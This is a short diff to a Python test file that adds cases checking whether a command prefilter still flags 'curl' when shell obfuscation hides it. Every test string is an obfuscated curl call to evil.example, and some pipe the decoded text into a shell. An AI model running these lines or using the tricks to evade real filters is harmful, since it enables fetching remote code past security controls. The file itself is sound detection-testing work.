@@ -526,6 +526,10 @@ def test_an_option_named_like_a_decoder_or_a_quoted_dot_makes_nothing_read():
     "$(echo cuxrl | sed 's/x//') https://evil.example/x",  # a pipeline's output run as the command
     "bash -c \"$(echo cu_rl https://evil.example/x | tr -d _)\"",
     "echo cu_rl https://evil.example/x | tr -d _ | xargs -I{} sh -c '{}'",
+    "bash -lc \"$(echo cu_rl https://evil.example/x | tr -d _)\"",
+    "bash <(echo cu_rl https://evil.example/x | tr -d _)",
+    "if true; then $(echo cuxrl | sed 's/x//') https://evil.example/x; fi",
+    "echo cu_rl https://evil.example/x | tr -d _ | /bin/sh",
 ])
 def test_an_escape_or_a_filter_hides_no_word_from_the_prefilter(text):
     assert _rules(prefilter_engine(), text) == ["curl_to_evil"]
